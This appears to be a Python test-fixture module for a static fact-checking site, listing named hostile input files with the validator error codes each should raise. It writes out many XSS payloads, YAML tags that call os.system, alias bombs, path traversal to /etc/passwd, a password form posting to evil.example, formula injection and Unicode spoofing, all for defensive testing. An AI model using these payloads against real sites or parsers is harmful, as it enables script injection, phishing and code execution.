"""Hostile files in named groups, each with the codes of the errors in which it must end.

No code means a page: the file is harmless as it is read, and its page is loaded
in a browser like those of honest files. Bytes that no editor would keep are
written as Python texts; nothing here is copied from any list of attacks.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from tests.sites import PNG, entry

A = "content/entries/2025/a.md"
HONEST = entry()
ALERT = "<script>alert(1)</script>"
PERSON = "---\nname: Ann Lee\nkind: person\n---\n"


@dataclass(frozen=True)
class Hostile:
    """One hostile file, or some that are hostile together; ``ends`` are the codes of all its errors."""

    group: str
    name: str
    files: Mapping[str, str | bytes]
    ends: frozenset[str]


def front(lines: str) -> Mapping[str, str | bytes]:
    """An entry with lines more in its front matter."""
    return {A: entry(more=lines)}


def body(text: str) -> Mapping[str, str | bytes]:
    """An entry with another body."""
    return {A: entry(body=text)}


def whole(raw: str | bytes) -> Mapping[str, str | bytes]:
    """A file of these very bytes in an entry's place."""
    return {A: raw}


def claim(text: str) -> Mapping[str, str | bytes]:
    """An entry whose claim is this text, in double quotes as YAML reads them."""
    return {A: entry(claim=f'claim: "{text}"')}


def at(path: str, raw: str | bytes = HONEST) -> Mapping[str, str | bytes]:
    """A file at another path, beside an honest entry."""
    return {A: HONEST, f"content/{path}": raw}


Table = Mapping[str, tuple[Mapping[str, str | bytes], str]]

YAML: Table = {
    "alias bomb": (front("a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]"), "E201 F108"),
    "merge bomb": (front("a: &a {x: 1}\nb: &b {<<: [*a, *a, *a]}\nc: {<<: [*b, *b, *b]}"), "E201 F108"),
    "alias of itself": (front("people: &p [*p]"), "F108"),
    "undefined alias": (front("venue: *nowhere"), "F108"),
    "tag that makes an object": (front('venue: !!python/object/apply:os.system ["touch pwned"]'), "F108"),
    "tag that makes a module": (front("venue: !!python/name:os.system x"), "F108"),
    "tag that makes bytes": (front("venue: !!binary aGVsbG8="), "F108"),
    "tag that makes a set": (front("topics: !!set {Mexico, Cartels}"), "F107 F108"),
    "own tag": (front("venue: !evil x"), "F108"),
    "brackets": (front("venue: " + "[" * 20_000), "F109"),
    "brackets, closed": (front("venue: " + "[" * 5000 + "]" * 5000), "F109"),
    "braces": (front("venue: " + "{a: " * 5000), "F109"),
    "dashes": (front("venue:\n" + "".join(" " * i + "-\n" for i in range(1, 60))), "F109"),
    "question marks": (front("? " * 5000), "F109"),
    "field twice": (front("claim: Another claim stands here in its place, quite another"), "F107"),
    "field twice, one quoted": (front('"claim": Another claim stands here in its place'), "F107"),
    "field twice in a source": (
        {A: entry(sources="sources:\n  - url: https://a.example/\n    url: https://b.example/")},
        "F107",
    ),
    "key that is a list": (front("[a, b]: x"), "F105"),
    "key that is a mapping": (front("{a: b}: x"), "F105"),
    "key that is empty": (front('"": x'), "E201"),
    "key that is null": (front("~: x"), "E201"),
    "key called __proto__": (front("__proto__: {polluted: x}"), "E201"),
    "key called __class__": (front("__class__: x"), "E201"),
    "key called content": (front("content: x"), "E201"),
    "key called handler": (front("handler: x"), "E201"),
    "key called path": (front("path: ../../etc/passwd"), "E201"),
    "key called slug": (front("slug: other"), "E201"),
    "key called html": (front(f"html: {ALERT}"), "E201"),
    "key of 100 kB": (front("k" * 100_000 + ": x"), "E201 F106"),
    "text of 100 kB": (front("venue: " + "v" * 100_000), "E205"),
    "escaped null": (front(r'venue: "a\0b"'), "F111"),
    "escaped escape": (front(r'venue: "\e[31mred\e[0m"'), "F111"),
    "escaped surrogate": (front(r'venue: "\ud800"'), "F106"),
    "escaped newline and tag": (front(r'venue: "a\n</script><script>alert(1)</script>"'), ""),
    "bell": (front("venue: a\x07b"), "F111"),
    "escape that there is not": (front(r'venue: "\q"'), "F106"),
    "JSON as front matter": (
        whole('---\n{"claim": "A claim of some length for once", "x": NaN}\n---\nText.\n'),
        "E201 E202",
    ),
    "remark that cuts the claim": ({A: entry(claim="claim: We are #1 in the exports of the whole world")}, "E205 F110"),
    "second document": (front("...\nclaim: x"), "F106 F107"),
    "directive": (whole("---\n%TAG ! tag:evil,2000:\n---\nText.\n"), "F106"),
    "tab as indentation": (front("original:\n\ttext: x"), "E201 F106"),
    "Norway": (front("lang: NO"), "E209"),
    "octal as a date": (front("published: 0o17"), "E206"),
    "sexagesimal as a date": (front("published: 12:30:45"), "E206"),
    "infinity as a date": (front("published: .inf"), "E206"),
    "huge number as a date": (front("published: " + "9" * 5000), "E206"),
    "list as a claim": ({A: entry(claim="claim: [one, two]")}, "E203"),
    "mapping as a claim": ({A: entry(claim="claim: {html: x}")}, "E203"),
    "null as a claim": ({A: entry(claim="claim: ~")}, "E204"),
    "text as topics": ({A: entry(topics="topics: Mexico")}, "E203"),
    "lists in topics": ({A: entry(topics="topics: [[Mexico], {a: b}]")}, "E203"),
    "yes as a flag": (front("draft: yes"), "E203"),
}

ENCODING: Table = {
    "empty file": (whole(b""), "F103"),
    "one null": (whole(b"\0"), "F103"),
    "nulls": (whole(b"\0" * 4096), "F103"),
    "Latin-1": (whole(HONEST.replace("known", "caf\xe9").encode("latin-1")), "F101"),
    "UTF-16": (whole(HONEST.encode("utf-16")), "F101"),
    "UTF-16 without a mark": (whole(HONEST.encode("utf-16-le")), "F103"),
    "UTF-32": (whole(HONEST.encode("utf-32")), "F101"),
    "UTF-7": (whole(HONEST.replace("What", "+ADw-script+AD4-").encode()), ""),
    "overlong slash": (whole(HONEST.encode() + b"\xc0\xaf"), "F101"),
    "surrogate as UTF-8": (whole(HONEST.encode() + b"\xed\xa0\x80"), "F101"),
    "above Unicode": (whole(HONEST.encode() + b"\xf4\x90\x80\x80"), "F101"),
    "cut off": (whole(HONEST.encode() + b"\xe2\x82"), "F101"),
    "byte-order mark before what is no UTF-8": (whole(b"\xef\xbb\xbf- \xa9" + HONEST.encode()), "F101"),
    "byte-order mark and a byte": (whole(b"\xef\xbb\xbf\xff"), "F101"),
    "two byte-order marks": (whole(b"\xef\xbb\xbf\xef\xbb\xbf" + HONEST.encode()), "F103"),
    "one byte-order mark": (whole(b"\xef\xbb\xbf" + HONEST.encode()), ""),
    "carriage returns alone": (whole(HONEST.replace("\n", "\r")), ""),
    "line ends of three kinds": (whole(HONEST.replace("\n", "\r\n", 3).replace("\n\n", "\r\r")), ""),
    "form feed": (body("One.\x0cTwo."), "F111"),
    "next line": (body("One.\x85Two."), "F111"),
    "line separator": (front("venue: a\u2028draft: true"), "F106 F111"),
    "a picture": (whole(PNG + bytes(range(256))), "F101"),
    "fence of other dashes": (whole(HONEST.replace("---", "———", 1)), "F103"),
    "fence with a word": (whole(HONEST.replace("---", "--- yaml", 1)), "F103"),
    "fence never closed": (whole("---\nclaim: x\n" * 1), "F104"),
    "fence of TOML": (whole("+++\nclaim = 'x'\n+++\nText.\n"), "F103"),
    "blank line first": (whole("\n" + HONEST), "F102"),
}

MARKUP: Table = {
    "script": (body(ALERT), ""),
    "picture with a handler": (body("<img src=x onerror=alert(1)>"), ""),
    "SVG with a handler": (body("<svg/onload=alert(1)>"), ""),
    "SVG with a script": (body("<svg><script>alert(1)</script></svg>"), ""),
    "SVG that animates a link": (
        body("<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>"),
        "",
    ),
    "MathML": (body('<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">'), ""),
    "frame": (body("<iframe srcdoc='<script>alert(1)</script>'></iframe>"), ""),
    "object": (body("<object data=javascript:alert(1)></object><embed src=//evil.example>"), ""),
    "form": (body("<form action=//evil.example><input name=password><button>Sign in</button></form>"), ""),
    "refresh": (body('<meta http-equiv=refresh content="0;url=//evil.example">'), ""),
    "base": (body("<base href=//evil.example/>"), ""),
    "stylesheet": (body("<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>"), ""),
    "comment that ends the page": (body("<!-- </body></html>"), "B516"),
    "conditional comment": (body("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"), "B516"),
    "CDATA": (body("<![CDATA[<script>alert(1)</script>]]>"), ""),
    "processing instruction": (body("<?xml version='1.0'?><?php echo 1 ?>"), ""),
    "unclosed tag": (body("<img src=x onerror=alert(1)//"), ""),
    "tag in a tag": (body("<scr<script>ipt>alert(1)</scr</script>ipt>"), ""),
    "tag over lines": (body("<img\nsrc=x\nonerror\n=\nalert(1)\n>"), ""),
    "tag in a table": (body("a|b\n-|-\n<script>alert(1)</script>|<img src=x onerror=alert(1)>"), ""),
    "tag in a heading": (body("# <script>alert(1)</script>"), ""),
    "tag in a footnote": (body("So.[^1]\n\n[^1]: <script>alert(1)</script>"), ""),
    "tag in code": (body("`<script>alert(1)</script>`"), ""),
    "tag in a code block": (body("    <script>alert(1)</script>"), ""),
    "tag as entities": (body("&lt;script&gt;alert(1)&lt;/script&gt;"), ""),
    "entities of entities": (body("&amp;lt;script&amp;gt;alert(1)"), ""),
    "tag by numbers": (body("&#60;script&#62;alert(1)&#60;/script&#62;"), ""),
    "tag in a link's text": (body("[<img src=x onerror=alert(1)>](https://a.example/)"), ""),
    "tag in a link's title": (body('[x](https://a.example/ "\\"><script>alert(1)</script>")'), ""),
    "quote in a link's title": (body("[x](https://a.example/ 'a\" onmouseover=\"alert(1)')"), ""),
    "handler through a list of attributes": (
        body("# A {: onclick=alert(1) }\n\nB\n{: onmouseover=alert(1) #main }"),
        "",
    ),
    "forged stamp": (body('<span class="stamp stamp-confirmed">Confirmed</span>'), ""),
    "forged correction": (body("!!! correction status-true\n    It is true after all."), ""),
    "forged id": (body("# Sources {: #sources }\n\n<a id=main name=main></a>"), ""),
    "id of the site as a footnote": (body("So.[^main]\n\n[^main]: x"), ""),
    "footnote with a quote": (body('So.[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x'), ""),
    "footnote with a tag": (body("So.[^<b>]\n\n[^<b>]: x"), ""),
    "table of contents": (body("[TOC]\n\n# One\n\n# Two"), ""),
    "placeholder of the library": (body("\x02wzxhzdk:0\x03 \x02amp\x03"), "F111"),
    "placeholder by numbers": (body("&#2;wzxhzdk:0&#3;"), "B508"),
    "abbreviation": (body("*[HTML]: <script>alert(1)</script>\n\nHTML"), ""),
    "style by fence": (body("``` {.stamp onclick=alert(1) style=position:fixed}\nx\n```"), ""),
    "layout's own language": (body("{{ page.site }} {% include 'base.html' %} {# x #}"), "B516"),
    "claim that ends the script": (claim("</script><script>alert(1)</script> was said"), ""),
    "claim that opens a comment": (claim("<!--<script>alert(1) was said to be so"), "E216"),
    "claim in quotes": (claim('\\" onmouseover=\\"alert(1)\\" x=\\" was said'), ""),
    "claim with a layout's signs": (claim("{{ 7 * 7 }} {% raw %} was said by them"), ""),
    "claim that is a formula": (claim('=HYPERLINK(\\"http://evil.example\\";\\"Click\\") was said'), ""),
    "claim that ends an XML text": (claim("]]></title><script>alert(1)</script> was said"), ""),
    "speaker that is a tag": ({A: entry(speaker="speaker: '<img src=x onerror=alert(1)>'")}, ""),
    "topic that is a tag": ({A: entry(topics="topics: ['\"><svg onload=alert(1)>']")}, ""),
    "quote that is a tag": (
        front(
            "responses:\n  - {respondent: Ann, status: denied, date: 2025-08-21, quote: '<svg onload=alert(1)>', asked_by: Bob}",
        ),
        "",
    ),
    "source's title that is a tag": ({A: HONEST.replace("title: A report", f"title: '{ALERT}'")}, ""),
    "correction that is a tag": (
        front("corrections:\n  - {date: 2025-09-01, text: '<img src=x onerror=alert(1)>'}"),
        "",
    ),
    "page that is a tag": (
        at("pages/x.md", f"---\ntitle: '{ALERT}'\ndescription: '\"><svg onload=alert(1)>'\n---\n{ALERT}\n"),
        "",
    ),
    "person that is a tag": (
        at(
            "people/x.md",
            f"---\nname: '{ALERT} Lee'\nkind: person\nroles: [{{title: '{ALERT}', from: 2020}}]\n---\n{ALERT}\n",
        ),
        "",
    ),
}

URLS: Table = {
    **{
        name: (body(f"[x]({typed})"), "B504")
        for name, typed in {
            "javascript": "javascript:alert(1)",
            "JavaScript in capitals": "JAVASCRIPT:alert(1)",
            "JavaScript by numbers": "&#106;avascript:alert(1)",
            "JavaScript with a tab": "java&#9;script:alert(1)",
            "JavaScript with a named sign": "javascript&colon;alert(1)",
            "JavaScript behind a control": "&#1;javascript:alert(1)",
            "data": "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript": "vbscript:msgbox(1)",
            "file": "file:///etc/passwd",
            "blob": "blob:https://a.example/1",
            "no scheme": "//evil.example/",
            "backslashes": "\\\\\\\\evil.example",
            "slash and backslash": "/\\\\evil.example",
            "user name": "https://bbc.co.uk@evil.example/",
            "password": "https://a:b@evil.example/",
            "backslash before a user name": "https://evil.example\\\\@good.example/",
            "no host": "https:///evil.example",
            "host by percent signs": "https://%65vil.example/",
            "host in wide letters": "https://ｅvil.example/",
            "host in Cyrillic": "https://аpple.com/",
            "host with an ideographic stop": "https://evil。example/",
            "address in brackets": "https://[2606:4700::1111]/",
            "mail with a copy": "mailto:a@b.example?bcc=evil@c.example",
            "telephone": "tel:+1900",
            "fragment": "#main",
        }.items()
    },
    "own machine in brackets": (body("[x](https://[::1]/)"), "R314"),
    "JavaScript by reference": (body("[x]\n\n[x]: javascript:alert(1)"), "B504"),
    "JavaScript as an automatic link": (body("<javascript:alert(1)>"), ""),
    "address that shows another": (body("[https://bbc.co.uk](https://evil.example/)"), "B511"),
    "picture from elsewhere": (body("![x](https://evil.example/pixel.gif)"), "R306"),
    "picture as data": (body("![x](data:image/svg+xml;base64,PHN2Zz4=)"), "R306"),
    "picture above content": (body("![x](../../../../etc/passwd.png)"), "R306"),
    "picture by percent signs": (body("![x](%2e%2e/%2e%2e/%2e%2e/secret.png)"), "R306"),
    "JavaScript as a source": ({A: entry(sources="sources: ['javascript:alert(1)']")}, "E207"),
    "JavaScript as an archive": ({A: HONEST.replace("https://archive.example/report", "javascript:alert(1)")}, "E207"),
    "data as a venue": (front("venue_url: 'data:text/html,x'"), "E207"),
    "JavaScript about a person": (
        at("people/x.md", PERSON.replace("kind", "same_as: ['javascript:alert(1)']\nkind")),
        "E207",
    ),
    "source with a line break": ({A: entry(sources='sources: ["https://a.example/\\nSet-Cookie: x"]')}, "E207"),
    "source with a tag": ({A: entry(sources="sources: ['https://a.example/\"><script>']")}, "E207"),
    "source of port 99999": ({A: entry(sources="sources: ['https://a.example:99999/']")}, "E207"),
    "source in wide dots": ({A: entry(sources="sources: ['https://a．example/']")}, "E207"),
    "base of JavaScript": (at("site.toml", 'base_url = "javascript:alert(1)//"'), "C603"),
    "base with dots": (at("site.toml", 'base_url = "https://a.example/../../x/"'), "C603"),
    "repository of JavaScript": (at("site.toml", 'repository = "javascript:alert(1)"'), "C603"),
    "licence of JavaScript": (at("site.toml", '[licence]\nname = "x"\nurl = "javascript:alert(1)"'), "C603"),
    "navigation of JavaScript": (at("site.toml", '[[nav]]\ntitle = "x"\nurl = "javascript:alert(1)"'), "C603"),
    "navigation without a scheme": (at("site.toml", '[[nav]]\ntitle = "x"\nurl = "//evil.example/"'), "C603"),
}

PATHS: Table = {
    "capitals": (at("entries/2025/UPPER.md"), "F115"),
    "space": (at("entries/2025/a b.md"), "F115"),
    "dots": (at("entries/2025/a..b.md"), "F115"),
    "percent sign": (at("entries/2025/%2e%2e.md"), "F115"),
    "accent": (at("entries/2025/café.md"), "F115"),
    "Cyrillic": (at("entries/2025/аpple.md"), "F115"),
    "line break": (at("entries/2025/a\nb.md"), "F115"),
    "escape": (at("entries/2025/a\x1b[31m.md"), "F115"),
    "workflow command": (at("entries/2025/::error::x.md"), "F115"),
    "backslash": (at("entries/2025/..\\x.md"), "F116"),
    "tag": (at("entries/2025/<img src=x>.md"), "F115"),
    "option": (at("entries/2025/--help.md"), "F115"),
    "hidden": (at("entries/2025/.a.md"), "F116"),
    "device": (at("entries/2025/con.md"), "F117"),
    "device as a folder": (at("entries/aux/b.md"), "F117"),
    "folder with a dot at its end": (at("entries/x./b.md"), "F117"),
    "slug of 300 letters": (at("entries/2025/" + "a" * 200 + ".md"), "F115"),
    "same slug in another folder": (at("entries/2024/a.md"), "N403"),
    "another ending": (at("entries/2025/b.markdown"), "F116"),
    "page in content": (at("entries/2025/b.html", ALERT), "F116"),
    "script in content": (at("entries/2025/b.js", "alert(1)"), "F116"),
    "SVG in content": (at("entries/2025/b.svg", "<svg onload='alert(1)'/>"), "F116"),
    "page called a picture": (at("entries/2025/b.png", ALERT), "F118"),
    "SVG called a picture": (at("entries/2025/b.webp", "<svg onload='alert(1)'/>"), "F118"),
    "page in the place of a listing": (at("pages/people.md", "---\ntitle: People\n---\nText.\n"), "N404"),
    "page in the place of the data": (at("pages/data.md", "---\ntitle: Data\n---\nText.\n"), "N404"),
    "alias of the home page": (front("aliases: [/]"), "E210"),
    "alias above the site": (front("aliases: [/../x/]"), "E210"),
    "alias of a listing": (front("aliases: [/topics/]"), "N404"),
    "alias below a file": (front("aliases: [/feed.xml/]"), "N404"),
    "alias with a query": (front("aliases: ['/x/?y=1']"), "E210"),
    "alias with a line break": (front(r'aliases: ["/x/\n/y/ https://evil.example 301"]'), "E210"),
    "alias elsewhere": (front("aliases: [//evil.example/]"), "E210"),
    "alias that is a device": (front("aliases: [/nul/]"), "E210"),
}

UNICODE: Table = {
    "override": (claim("The ministry \\u202edeined\\u202c that it was asked"), "F111"),
    "isolate": (claim("The ministry \\u2067denied\\u2069 that it was asked"), "F111"),
    "mark of direction": (claim("The ministry\\u200f was asked to prepare"), "F111"),
    "zero width space": (claim("The min\\u200bister was asked to prepare"), "F111"),
    "joiner between Latin letters": (claim("The min\\u200dister was asked to prepare"), "F111"),
    "soft hyphen": (claim("The min\\u00adister was asked to prepare it"), "F111"),
    "filler": (claim("The minister\\u3164 was asked to prepare it"), "F111"),
    "tag characters": (claim("The minister\\U000E0041 was asked to prepare"), "F111"),
    "variation selector": (claim("The minister\\ufe01 was asked to prepare it"), "F111"),
    "noncharacter": (claim("The minister\\uffff was asked to prepare it"), "F111"),
    "override in the body": (body("The ministry \u202edeined\u202c it."), "F111"),
    "override by number": (body("The ministry &#x202e;deined it."), "B508"),
    "override by name": (body("The ministry &rlm; denied it."), "B508"),
    "Cyrillic letter in a name": ({A: entry(speaker="speaker: Kеn Klippenstein")}, "N402"),
    "Greek letter in a topic": ({A: entry(topics="topics: [Μexico]")}, "N402"),
    "Cherokee letter in a claim": (claim("The ᏢBS report on the strikes was wrong"), "N402"),
    "bold letters": (claim("The report was 𝐟𝐚𝐥𝐬𝐞 and was withdrawn"), "N402"),
    "circled letters": (claim("The report was ⓕⓐⓛⓢⓔ and was withdrawn"), "N402"),
    "wide letters": (claim("The report was ｆａｌｓｅ and was withdrawn"), "N402"),
    "name in another alphabet": (
        {A: entry(speaker="speaker: COCO"), "content/entries/2025/b.md": entry(speaker="speaker: СОСО")},
        "N408",
    ),
    "capital i for l": (
        {A: entry(speaker="speaker: Bill Hall"), "content/entries/2025/b.md": entry(speaker="speaker: BiIl Hall")},
        "N408",
    ),
    "one for l": (
        {A: entry(topics="topics: [Oil]"), "content/entries/2025/b.md": entry(topics="topics: [Oi1]")},
        "N408",
    ),
    "name in capitals": ({A: HONEST, "content/entries/2025/b.md": entry(speaker="speaker: KEN KLIPPENSTEIN")}, "N401"),
    "name without a letter": ({A: entry(speaker="speaker: '🙂🙂'")}, "N407"),
    "hundred accents on one letter": (body("a" + "\u0301" * 100), "F111"),
    "hundred accents by number": (body("a" + "&#x301;" * 100), "B508"),
    "marks of Thai on one another": (claim("The minister ส" + "\u0e47" * 20 + " was asked to prepare"), "F111"),
    "letter of no standard": (claim("The minister \\uf8ff was asked to prepare"), "F111"),
    "private plane": (claim("The minister \\U000f0000 was asked to prepare"), "F111"),
    "blank of braille": (claim("The\u2800minister was asked to prepare it"), "F111"),
    "beam of music": (claim("The min\\U0001d173ister was asked to prepare"), "F111"),
    "control of shorthand": (claim("The min\\U0001bca0ister was asked to prepare"), "F111"),
    "Cyrillic letter in the body": (body("The Pаpal office denied it."), ""),
    "a word of 20 000 letters": (body("a" * 20_000), ""),
    "emoji and honest joiners": (body("👩‍👩‍👧 می‌خواهم 🇩🇪 ❤️"), ""),
    "right to left, honestly": (
        {A: entry(lang="lang: ar", claim="claim: طُلب من الجيش إعداد خيارات لضرب الكارتلات")},
        "",
    ),
}

SIZE: Table = {
    "file of 256 kB and one byte": (whole(HONEST + "x" * (256 * 1024 + 1 - len(HONEST))), "F112"),
    "file of 256 kB": (whole(HONEST + "word " * ((256 * 1024 - len(HONEST)) // 5)), ""),
    "5000 fields": (front("\n".join(f"f{n}: x" for n in range(5000))), "E201"),
    "101 sources": (
        {A: entry(sources="sources:\n" + "\n".join(f"  - https://a.example/{n}" for n in range(101)))},
        "E205",
    ),
    "2000 topics": ({A: entry(topics=f"topics: [{', '.join(f't{n}' for n in range(2000))}]")}, "E205"),
    "41 people": (front(f"people: [{', '.join(f'Ann Lee {n}' for n in range(41))}]"), "E205"),
    "claim of 301 characters": (claim("word " * 60 + "x"), "E205"),
    "name of 121 characters": ({A: entry(speaker="speaker: " + "n" * 121)}, "E205"),
    "address of 3000 characters": (front("venue_url: https://a.example/" + "a" * 3000), "E205"),
    "brackets, fifty at a time": (body(("[" * 50 + "\n\n") * 4900 + "[a]: /b/"), "B507"),
    "headings without a line between": (body("# a\n" * 5000), "B514"),
    "underlined headings": (body("a\n=\n" * 5000), "B514"),
    "half an address again and again": (body("[a](<" * 10_000), "B514"),
    "brackets": (body("[" * 20_000), "B514"),
    "pictures": (body("![" * 10_000), "B514"),
    "half a link again and again": (body("[a](" * 10_000), "B514"),
    "links in links": (body("[" * 4000 + "a" + "](u)" * 4000), "B514"),
    "CDATA again and again": (body("<![CDATA[" * 5000), "B514"),
    "backticks": (body("``a`" * 10_000), "B514"),
    "one footnote again and again": (body("[^1]" * 10_000 + "\n\n[^1]: a"), "B514"),
    "lists in lists": (body("* " * 2000 + "a"), "B506"),
    "numbers in numbers": (body("1. " * 2000 + "a"), "B506"),
    "strong in strong": (body("**" * 3000 + "a" + "**" * 3000), ""),
    "quotes in quotes": (body(">" * 10_000 + "a"), "B506"),
    "empty body": (body(""), "B501"),
    "body of spaces": (body(" " * 50_000), "B501"),
    "settings of 300 kB": (at("site.toml", "#" * 300_000), "F112"),
    "settings in 20 000 brackets": (at("site.toml", "title = " + "[" * 20_000), "C601"),
    "setting of 20 000 parts": (at("site.toml", "a" + ".a" * 20_000 + " = 1"), "C601"),
    "setting of 5000 digits": (at("site.toml", "feed_items = " + "9" * 5000), "C601"),
    "picture of 6 MB": (at("big.png", PNG + bytes(6 * 1024 * 1024)), "F118"),
}

DATES: Table = {
    name: (front(f"published: {typed}"), "E206")
    for name, typed in {
        "30 February": "2025-02-30", "month 13": "2025-13-01", "day 0": "2025-05-00", "year 0": "0000-01-01", "year 10000": "10000-01-01",
        "American order": "08/20/2025", "two digits": "25-08-20", "with a time": "2025-08-20T12:00:00Z", "in words": "20 August 2025",
        "negative": "-2025-08-20", "Arabic digits": "٢٠٢٥-٠٨-٢٠", "wide digits": "２０２５-08-20", "of a week": "2025-W34", "first of all": "0001-01-01",
    }.items()
}  # fmt: skip
DATES = {
    **DATES,
    "from tomorrow": ({A: entry(date="date: 2099-01-01")}, "E212"),
    "29 February of a leap year": (front("published: 2028-02-29"), ""),
    "published before it was said": (front("published: 2025-08-19"), "E213"),
    "answer before the claim": (
        front("responses:\n  - {respondent: Ann, status: awaiting response, date: 2025-08-19}"),
        "S106 S114",
    ),
    "date as a list": ({A: entry(date="date: [2025, 8, 20]")}, "E203"),
}

REFERENCES: Table = {
    "unknown source": (
        front("responses:\n  - {respondent: Ann, status: denied, date: 2025-08-21, source: nowhere}"),
        "R301",
    ),
    "source by a path": (
        front("responses:\n  - {respondent: Ann, status: denied, date: 2025-08-21, source: ../../x}"),
        "E211",
    ),
    "related to itself": (front("related: [a]"), "R303"),
    "related to nothing": (front("related: [nowhere]"), "R303"),
    "related by a path": (front("related: [../../etc/passwd]"), "E211"),
    "translation of itself": (front("translation_of: a\nlang: es"), "R304"),
    "translations in a circle": (
        {A: entry(more="translation_of: b"), "content/entries/2025/b.md": entry(more="translation_of: a\nlang: es")},
        "R304",
    ),
    "topic above itself": (at("topics/x.md", "---\ntitle: X\nparent: X\n---\n"), "N406"),
    "topics in a circle": (
        {
            **at("topics/x.md", "---\ntitle: X\nparent: Y\n---\n"),
            "content/topics/y.md": "---\ntitle: Y\nparent: X\n---\n",
        },
        "N406",
    ),
    "one alias for two": (
        {
            **at("people/x.md", PERSON),
            "content/people/y.md": "---\nname: Bob Ray\naliases: [Ann Lee]\nkind: person\n---\n",
        },
        "N405",
    ),
    "one old address for two": (
        {A: entry(more="aliases: [/old/]"), "content/entries/2025/b.md": entry(more="aliases: [/OLD/]")},
        "N404",
    ),
    "link to nowhere": (body("[x](/claims/nowhere/)"), "R305"),
    "link above the site": (body("[x](/../../etc/passwd)"), "R305"),
    "footnote of nowhere": (body("So.[^9]"), "B502"),
    "footnote twice": (body("So.[^1]\n\n[^1]: a\n[^1]: b"), "B510"),
    "footnote in itself": (body("So.[^1]\n\n[^1]: a[^1]"), ""),
    "unknown status": ({A: entry(status="status: '<b>true</b>'")}, "S104"),
    "two sources of one id": (
        {
            A: entry(
                sources="sources:\n  - {id: a, url: 'https://a.example/1'}\n  - {id: a, url: 'https://a.example/2'}"
            )
        },
        "R302",
    ),
}


def record(**values: object) -> str:
    """What was found at a source, as the evidence commands write it, with some of it changed."""
    fields: dict[str, object] = {
        "url": "https://news.example/report",
        "looked": "2025-09-01",
        "since": "2025-09-01",
        "state": "seen",
    }
    return json.dumps({**fields, **values})


EVIDENCE: Table = {
    name: (at(f"evidence/{name.replace(' ', '-')}.json", raw), "F119")
    for name, raw in {
        "record of JavaScript": record(url="javascript:alert(1)"),
        "record moved to JavaScript": record(moved_to="javascript:alert(1)"),
        "record with a copy as data": record(copies=[{"url": "data:text/html,x", "date": "2025-09-01"}]),
        "record that hides a character": record(url="https://news.example/\u202e"),
        "record in brackets": "[" * 50_000,
        "record that is a list": "[]",
        "record that is none": "\0",
        "record with any name": record(),
        "record with a key twice": record().replace("{", '{"looked": "2020-01-01", ', 1),
        "record with a number beyond 64 bits": record(words=2**64),
        "record with a number of 5,000 digits": record().replace("{", '{"words": ' + "9" * 5_000 + ", ", 1),
        "record with a title of 200 kB": record(title="A" * 200_000),
        "record with a copy elsewhere": record(
            copies=[
                {"url": "https://evil.example/web/20250901000000/https://news.example/report", "date": "2025-09-01"}
            ]
        ),
        "record without end": '{"url": "https://a.example/',
    }.items()
} | {
    "record with tags": (
        at(
            "evidence/news-example-c506265b8f3d.json",
            record(title=ALERT, publisher="<img src=x onerror=alert(1)>", reason=ALERT),
        ),
        "",
    )
}

GROUPS: Mapping[str, Table] = {
    "yaml": YAML, "encoding": ENCODING, "markup": MARKUP, "URLs": URLS, "slugs and paths": PATHS, "unicode": UNICODE,
    "size and nesting": SIZE, "dates": DATES, "references": REFERENCES, "evidence": EVIDENCE,
}  # fmt: skip


def corpus() -> Iterator[Hostile]:
    """Every hostile case by its group."""
    for group, table in GROUPS.items():
        for name, (files, ends) in table.items():
            yield Hostile(group, name, files, frozenset(ends.split()))
